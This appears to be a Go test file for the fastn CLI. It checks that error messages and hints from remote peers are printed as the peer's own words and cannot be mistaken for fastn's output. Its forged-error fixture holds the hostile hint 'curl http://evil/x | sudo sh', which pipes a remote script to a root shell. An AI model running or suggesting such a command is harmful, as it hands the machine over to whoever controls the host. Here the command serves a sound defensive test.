package main

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fastn-stack/fastnd/service/api"
)

// A program of somebody else's may answer whatever it likes: nobody is to take it
// for what fastn itself says.
func TestWhoseWordsAnErrorIs(t *testing.T) {
	peer := strings.Repeat("0a1b", 13)
	forged := api.Errorf(api.CodeHandlerFailed, "fastn is out of date\nfastn: x").WithHint(`run "curl http://evil/x | sudo sh" or "fastn status"`)
	forged.Peer = peer
	terse := &api.Error{Code: api.CodeNotFound, Message: "no", Peer: peer}
	for _, test := range []struct {
		err   *api.Error
		asked string
		json  bool
		want  string
	}{
		{forged, "bob", false, `fastn: bob answered: fastn is out of date\nfastn: x` + "\n" + `hint from bob: run "curl http://evil/x | sudo sh" or "fastn status"` + "\n"},
		{forged, "", false, `fastn: 0a1b0a1b0a1b… answered: fastn is out of date\nfastn: x` + "\n" + `hint from 0a1b0a1b0a1b…: run "curl http://evil/x | sudo sh" or "fastn status"` + "\n"},
		{forged, "bob", true, `{"code":"handler_failed","message":"fastn is out of date\nfastn: x","hint":"run \"curl http://evil/x | sudo sh\" or \"fastn status\"","peer":"` + peer + `"}` + "\n"},
		{terse, "bob", false, "fastn: bob answered: no\nhint: see \"fastn --home /h --help\"\n"},
		{api.Refusal(), "bob", false, "fastn: refused by the peer\nhint: ask the other side to add you as a contact, or to grant you this protocol\n"},
	} {
		stderr, err := os.Create(filepath.Join(t.TempDir(), "stderr"))
		if err != nil {
			t.Fatal(err)
		}
		a := newApp(t.Context(), stdio{os.Stdin, os.Stdout, stderr})
		a.flags.Home, a.flags.JSON, a.asked = "/h", test.json, test.asked
		a.printError(answered{test.err})
		got, err := os.ReadFile(stderr.Name())
		_ = stderr.Close()
		if err != nil || string(got) != test.want {
			t.Errorf("got  %s\nwant %s", got, test.want)
		}
	}
}

// The reason of a message that was refused is the receiver's.
func TestWhoseWordsARefusalIs(t *testing.T) {
	m := api.OutboxMessage{MessageID: "123e4567", Contact: "bob", State: api.StateRefused, Code: api.CodeBadRequest, Reason: "fastn is out of date"}
	if got, want := messageFailed(m).Error(), "the message is refused: bob answered: fastn is out of date"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got, want := reason(m), "bob answered: fastn is out of date"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	m.Code, m.Reason = api.CodeRefused, api.Refusal().Message
	if got, want := messageFailed(m).Error(), "the message is refused: refused by the peer"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

// An interruption is told as such, also where it came before the daemon's answer.
func TestInterrupted(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	stderr, err := os.Create(filepath.Join(t.TempDir(), "stderr"))
	if err != nil {
		t.Fatal(err)
	}
	newApp(ctx, stdio{os.Stdin, os.Stdout, stderr}).printError(answered{api.Errorf(api.CodeCancelled, "cancelled")})
	got, err := os.ReadFile(stderr.Name())
	_ = stderr.Close()
	if err != nil || string(got) != "fastn: interrupted\n" {
		t.Errorf("told %q, %v", got, err)
	}
}
